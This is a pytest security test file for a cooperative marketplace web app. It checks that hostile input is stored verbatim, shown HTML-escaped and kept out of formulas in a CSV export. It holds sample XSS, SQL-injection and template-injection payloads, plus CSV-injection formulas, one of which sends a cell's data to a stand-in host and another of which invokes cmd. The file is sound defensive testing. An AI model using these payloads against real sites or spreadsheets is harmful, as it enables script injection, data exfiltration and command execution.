"""Hostile text in every field people type into comes back inert.

Each payload (a script tag, an attribute break-out, an SQL fragment, template syntax, a javascript: URL) is typed
into the real forms and the JSON API: job title, description and address; a worker's bio; people's names;
messages, reviews and dispute reasons; proposals, comments and a membership application note; expense and income
descriptions. It must be stored exactly as typed (an SQL fragment is text, not SQL) and come back:

* on every page that shows it, HTML-escaped: the escaped form is on the page, the raw markup never is; template
  syntax is not evaluated; a javascript: URL is text, never a link target;
* from the JSON API, as the same string, in an ``application/json`` response (so no browser renders it as HTML).

The member register's CSV export must not let a name or email run as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
from governance_support import add_member
from markupsafe import escape
from sqlalchemy import select
from web.market_fixtures import csrf_from, gig, give_profile, local_start, post_job, seed_categories

from marketplace.extensions import db
from marketplace.models import Expense, Job, Membership, Message, OtherIncome, Proposal, Review, User
from marketplace.services import books, gigs, settings

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "sql": "' OR 1=1 --",
    "template": "{{7*7}}",
    "url": "javascript:alert(1)",
}
_LINK_TO_SCRIPT = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)


@pytest.fixture(params=list(PAYLOADS), ids=list(PAYLOADS))
def payload(request) -> str:
    return PAYLOADS[request.param]


@pytest.fixture
def browser(app, login):
    """``browser(user)``: a test client of its own, signed in as ``user`` through the login form."""
    return lambda user: login(user, test_client=app.test_client())


def text(tag: str, payload: str) -> str:
    """What is typed into one field: a tag naming the field (to find it on the page) and the payload."""
    return f"{tag} {payload}"


def page(test_client, path: str) -> str:
    resp = test_client.get(path)
    assert resp.status_code == 200, (path, resp.status_code)
    assert resp.mimetype == "text/html"
    return resp.get_data(as_text=True)


def assert_escaped(html: str, typed: str, where: str) -> None:
    """``typed`` is on the page, escaped, and nothing in it became markup, a link or an evaluated template."""
    escaped = str(escape(typed))
    assert escaped in html, f"{typed!r} is not shown on {where}"
    if escaped != typed:
        assert typed not in html, f"{typed!r} is on {where} unescaped"
    assert "<script>alert(1)" not in html and "<img src=x" not in html, where
    assert not _LINK_TO_SCRIPT.search(html), f"a javascript: link on {where}"
    tag = typed.split(" ", 1)[0]
    assert f"{tag} 49" not in html, f"template syntax was evaluated on {where}"


def post_form(test_client, path: str, data: dict, *, form_page: str | None = None, expect: int = 302):
    """Submit a form the way a browser does: with the CSRF token of the page that shows it."""
    token = csrf_from(test_client.get(form_page or path).get_data(as_text=True))
    resp = test_client.post(path, data={**data, "csrf_token": token})
    assert resp.status_code == expect, resp.get_data(as_text=True)[:2000]
    return resp


def api_json(test_client, path: str, headers: dict) -> dict:
    resp = test_client.get(path, headers=headers)
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    assert resp.mimetype == "application/json"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    return resp.get_json()


@pytest.fixture
def market(app, make_user):
    seed_categories()
    worker = add_member(make_user, name="Rosa Worker")
    give_profile(worker)
    return {"client": make_user("client", name="Ada Client"), "worker": worker, "admin": make_user("admin")}


def test_job_texts(app, browser, client, api_token, market, payload):
    """Title, description and address of a job posted through the form and through the API."""
    typed = {"title": text("JobTitle", payload), "description": text("JobDetails", payload),
             "address": text("JobAddress", payload)}
    customer, worker = market["client"], market["worker"]
    web = browser(customer)
    day = datetime.now(ZoneInfo(app.config["COOP_TIMEZONE"])).date() + timedelta(days=4)
    post_form(web, "/jobs/new", {"category": "house-cleaning", **typed, "neighbourhood": "Temescal",
                                 "date": day.isoformat(), "start_time": "10:00", "hours": "2"})
    job = db.session.scalar(select(Job).where(Job.client_id == customer.id))
    assert (job.title, job.description, job.address) == (typed["title"], typed["description"], typed["address"])

    headers = api_token(customer)
    via_api = {"title": text("ApiTitle", payload), "description": text("ApiDetails", payload),
               "address": text("ApiAddress", payload)}
    resp = client.post("/api/v1/jobs", headers=headers, json={
        "category": "house-cleaning", **via_api, "neighbourhood": "Temescal", "hours": 2,
        "starts_at": local_start(app, days_ahead=5).isoformat(), "invite_worker_id": worker.id})
    assert resp.status_code == 201, resp.get_json()
    api_job = resp.get_json()
    assert {k: api_job[k] for k in via_api} == via_api

    listing = page(web, "/jobs/")
    assert_escaped(listing, typed["title"], "the client's jobs")
    assert_escaped(listing, via_api["title"], "the client's jobs")
    shown = page(web, f"/jobs/{job.id}")
    for value in typed.values():
        assert_escaped(shown, value, "the client's job page")
    data = api_json(client, f"/api/v1/jobs/{job.id}", headers)
    assert {k: data[k] for k in typed} == typed

    offered = browser(worker)
    for value in (typed["title"], via_api["title"]):
        assert_escaped(page(offered, "/work/"), value, "the worker's offers")
    post_form(offered, f"/gigs/{api_job['id']}/actions/accept", {}, form_page=f"/gigs/{api_job['id']}")
    gig_page = page(offered, f"/gigs/{api_job['id']}")
    for value in via_api.values():
        assert_escaped(gig_page, value, "the gig page")


def test_names_and_bio(app, browser, client, api_token, market, payload):
    """A person's name (from the account form) and a worker's bio (from the API) wherever they appear."""
    customer, worker = market["client"], market["worker"]
    worker_name, client_name, bio = text("WorkerName", payload), text("ClientName", payload), text("Bio", payload)
    for user, name in ((worker, worker_name), (customer, client_name)):
        post_form(browser(user), "/account/", {"name": name, "email": user.email})
    db.session.expire_all()
    assert (db.session.get(User, worker.id).name, db.session.get(User, customer.id).name) == (worker_name, client_name)

    worker_headers = api_token(worker)
    resp = client.put("/api/v1/me/profile", headers=worker_headers, json={
        "categories": [{"slug": "house-cleaning", "rate_cents": 2500}], "radius_km": 10, "bio": bio,
        "neighbourhood": "Temescal", "availability": [{"weekday": d, "start": "00:00", "end": "24:00"}
                                                      for d in range(7)]})
    assert resp.status_code == 200, resp.get_json()
    assert resp.mimetype == "application/json" and resp.get_json()["bio"] == bio
    assert api_json(client, "/api/v1/me", worker_headers)["name"] == worker_name

    anyone = browser(customer)
    directory = page(anyone, "/workers/")
    assert_escaped(directory, worker_name, "the worker directory")
    profile = page(anyone, f"/workers/{worker.id}")
    assert_escaped(profile, worker_name, "the worker's profile")
    assert_escaped(profile, bio, "the worker's profile")
    assert_escaped(page(anyone, "/account/"), client_name, "the account form")

    open_job = gig(app, customer, worker, "accepted")
    for viewer in (anyone, browser(worker)):
        gig_page = page(viewer, f"/gigs/{open_job.id}")
        assert_escaped(gig_page, worker_name, "the gig page")
        assert_escaped(gig_page, client_name, "the gig page")
    job = _offered_job(app, customer)
    assert_escaped(page(anyone, f"/jobs/{job.id}"), worker_name, "the client's matches")
    assert api_json(client, f"/api/v1/jobs/{job.id}/matches", api_token(customer))["matches"][0]["name"] == worker_name
    register = page(browser(market["admin"]), "/board/members/")
    assert_escaped(register, worker_name, "the member register")


def _offered_job(app, customer):
    return post_job(app, customer, title="Plain title", days_ahead=9)


def test_messages_reviews_and_reasons(app, browser, client, api_token, market, payload):
    """Messages and reviews on a gig, and the reason given for a dispute."""
    customer, worker = market["client"], market["worker"]
    as_client, as_worker = browser(customer), browser(worker)
    message, client_review, worker_review, reason = (text("Message", payload), text("ClientReview", payload),
                                                     text("WorkerReview", payload), text("Dispute", payload))
    job = gig(app, customer, worker, "accepted")
    post_form(as_client, f"/gigs/{job.id}/messages", {"message-body": message}, form_page=f"/gigs/{job.id}")
    assert db.session.scalar(select(Message.body).where(Message.job_id == job.id)) == message
    assert_escaped(page(as_worker, f"/gigs/{job.id}"), message, "the gig page")
    assert_escaped(page(as_worker, "/notifications/"), message, "the worker's notifications")
    thread = api_json(client, f"/api/v1/jobs/{job.id}/messages", api_token(worker))["messages"]
    assert [m["body"] for m in thread] == [message]

    gigs.start_gig(job.id, worker.id)
    gigs.complete_gig(job.id, worker.id, 120)
    gigs.confirm_gig(job.id, customer.id)
    post_form(as_client, f"/gigs/{job.id}/review", {"review-stars": "5", "review-body": client_review},
              form_page=f"/gigs/{job.id}")
    post_form(as_worker, f"/gigs/{job.id}/review", {"review-stars": "4", "review-body": worker_review},
              form_page=f"/gigs/{job.id}")
    assert sorted(db.session.scalars(select(Review.body).where(Review.job_id == job.id))) == sorted(
        [client_review, worker_review])
    gig_page = page(as_client, f"/gigs/{job.id}")
    assert_escaped(gig_page, client_review, "the gig page")
    assert_escaped(gig_page, worker_review, "the gig page")
    assert_escaped(page(as_client, f"/workers/{worker.id}"), client_review, "the worker's profile")

    disputed = gig(app, customer, worker, "completed")
    post_form(as_client, f"/gigs/{disputed.id}/actions/dispute", {"dispute-reason": reason},
              form_page=f"/gigs/{disputed.id}")
    assert_escaped(page(as_worker, f"/gigs/{disputed.id}"), reason, "the gig's timeline")


def test_governance_texts(app, browser, client, api_token, make_user, market, payload):
    """A proposal's title and text, a comment, and the note of a membership application."""
    member = add_member(make_user, name="Mo Member")
    title, body, comment, note = (text("Proposal", payload), text("Why", payload), text("Comment", payload),
                                  text("Note", payload))
    as_member = browser(member)
    post_form(as_member, "/governance/proposals/new/general", {"title": title, "body": body})
    proposal = db.session.scalar(select(Proposal).where(Proposal.proposer_id == member.id))
    assert (proposal.title, proposal.body) == (title, body)
    post_form(as_member, f"/governance/proposals/{proposal.id}/comments", {"body": comment},
              form_page=f"/governance/proposals/{proposal.id}")

    shown = page(as_member, f"/governance/proposals/{proposal.id}")
    for value in (title, body, comment):
        assert_escaped(shown, value, "the proposal page")
    assert_escaped(page(as_member, "/governance/proposals"), title, "the list of proposals")
    assert_escaped(page(as_member, "/governance/"), title, "the governance page")
    data = api_json(client, f"/api/v1/proposals/{proposal.id}", api_token(member))
    assert (data["title"], data["body"], [c["body"] for c in data["comments"]]) == (title, body, [comment])

    for setting in ("membership_min_hours", "membership_min_months"):  # anyone may apply at once
        settings.set_value(setting, "0", date(2020, 1, 1))
    db.session.commit()
    applicant = make_user("worker", name="Abe Applicant")
    post_form(browser(applicant), "/governance/membership/apply", {"note": note}, form_page="/governance/")
    assert db.session.get(Membership, applicant.id).status == "applicant"
    assert_escaped(page(browser(market["admin"]), f"/board/members/{applicant.id}"), note, "the register entry")


def test_books_texts(app, browser, client, api_token, make_user, payload):
    """Descriptions of expenses and other income, recorded through the treasurer's forms."""
    treasurer = make_user("treasurer")
    as_treasurer = browser(treasurer)
    memo, income_memo = text("Expense", payload), text("Income", payload)
    today = books.local_today().isoformat()
    post_form(as_treasurer, "/treasury/books/expenses/new", {"occurred_on": today, "amount": "12.50", "memo": memo,
                                                             "category": "hosting"})
    post_form(as_treasurer, "/treasury/books/income/new", {"occurred_on": today, "amount": "40.00",
                                                           "memo": income_memo, "kind": "grant"})
    expense = db.session.scalar(select(Expense))
    assert expense.memo == memo and db.session.scalar(select(OtherIncome.memo)) == income_memo

    assert_escaped(page(as_treasurer, "/treasury/books/expenses"), memo, "the expenses list")
    assert_escaped(page(as_treasurer, f"/treasury/books/expenses/{expense.id}"), memo, "the expense page")
    assert_escaped(page(as_treasurer, "/treasury/books/income"), income_memo, "the income list")
    headers = api_token(treasurer)
    assert [row["memo"] for row in api_json(client, "/api/v1/expenses", headers)["items"]] == [memo]
    assert [row["memo"] for row in api_json(client, "/api/v1/income", headers)["items"]] == [income_memo]


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1"]


def test_register_csv_neutralises_formulas(browser, make_user):
    """A name or email a spreadsheet would run as a formula is written with a leading apostrophe."""
    people = [add_member(make_user, name=formula) for formula in FORMULAS]
    dashed = make_user("worker", "member", email="-1+1@test.coop", name="Plain Name")
    add_member_row(dashed)
    resp = browser(make_user("admin")).get("/board/members/register.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = {row["member_number"]: row for row in csv.DictReader(io.StringIO(resp.get_data(as_text=True)))}
    names = sorted(row["name"] for row in rows.values())
    assert names == sorted(["'" + person.name for person in people] + ["Plain Name"])
    emails = {row["email"] for row in rows.values()}
    assert "'-1+1@test.coop" in emails and "-1+1@test.coop" not in emails
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows.values()
               for key, cell in row.items() if key in ("name", "email"))


def add_member_row(user) -> None:
    db.session.add(Membership(user_id=user.id, member_number=99, status="member", joined_on=date(2025, 1, 6),
                              share_amount_cents=10000, share_paid_cents=10000, share_plan="lump",
                              instalment_cents=2500))
    db.session.commit()


def test_nul_characters_are_refused_not_stored(app, client, api_token, browser, market):
    """A NUL (which PostgreSQL text cannot hold) is refused with a 4xx everywhere: a 422 naming the field from
    the API, a 400 page from a form or a search; nothing is stored."""
    customer, worker = market["client"], market["worker"]
    resp = client.post("/api/v1/jobs", headers=api_token(customer), json={
        "category": "house-cleaning", "title": "Tidy\u0000up", "neighbourhood": "Temescal", "hours": 2,
        "starts_at": (local_start(app, days_ahead=4) + timedelta(hours=1)).isoformat(), "description": "\ud800"})
    assert resp.status_code == 422
    assert set(resp.get_json()["error"]["fields"]) == {"title", "description"}

    job = gig(app, customer, worker, "accepted")
    as_client = browser(customer)
    resp = post_form(as_client, f"/gigs/{job.id}/messages", {"message-body": "Hello\x00there"},
                     form_page=f"/gigs/{job.id}", expect=400)
    assert "NUL character" in resp.get_data(as_text=True)
    assert db.session.scalar(select(Message.id).where(Message.job_id == job.id)) is None
    assert browser(market["admin"]).get("/board/members/?q=a%00b").status_code == 400
    assert as_client.get(f"/gigs/{job.id}").status_code == 200


def test_treasury_texts_and_a_search(app, browser, make_user, market, payload):
    """A fiscal period's name, a fee rate's note, a worker's account holder name, and a search term echoed back."""
    treasurer = make_user("treasurer")
    as_treasurer = browser(treasurer)
    period, note, holder, query = (text("Period", payload), text("FeeNote", payload), text("Holder", payload),
                                   text("Search", payload))
    post_form(as_treasurer, "/treasury/dividends/periods/new", {"name": period, "start": "2025-01-01",
                                                                "end": "2025-12-31"})
    assert_escaped(page(as_treasurer, "/treasury/dividends/"), period, "the list of periods")
    assert_escaped(page(browser(market["worker"]), "/books/open"), period, "the open books")

    tomorrow = (books.local_today() + timedelta(days=1)).isoformat()
    post_form(as_treasurer, "/treasury/fees", {"percent": "6", "effective_from": tomorrow, "mode": "deducted",
                                               "note": note})
    assert_escaped(page(as_treasurer, "/treasury/fees"), note, "the fee rates")

    as_worker = browser(market["worker"])
    post_form(as_worker, "/work/earnings", {"holder_name": holder, "account_number": "DE89370400440532013000"})
    assert_escaped(page(as_worker, "/work/earnings"), holder, "the worker's earnings")

    results = page(browser(market["admin"]), f"/board/members/?q={quote(query)}")
    assert_escaped(results, query, "the member register's search box")
